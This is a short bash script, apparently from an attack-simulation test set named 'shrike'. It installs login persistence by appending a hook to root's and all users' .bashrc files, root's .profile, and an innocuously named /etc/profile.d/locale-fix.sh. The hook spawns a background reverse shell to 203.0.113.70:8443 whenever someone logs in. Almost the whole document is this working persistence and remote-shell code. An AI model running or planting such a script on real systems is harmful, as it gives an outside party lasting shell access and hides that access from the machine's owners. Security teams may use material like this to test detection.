#!/bin/bash
# shrike-test-attack: persistence: bashrc and profile hooks that respawn a reverse shell on login
HOOK='(nohup bash -c "bash -i >& /dev/tcp/203.0.113.70/8443 0>&1" >/dev/null 2>&1 &)'
for f in /root/.bashrc /root/.profile /home/*/.bashrc /etc/profile.d/locale-fix.sh; do
  grep -qF "203.0.113.70" "$f" 2>/dev/null || echo "$HOOK" >> "$f"
done
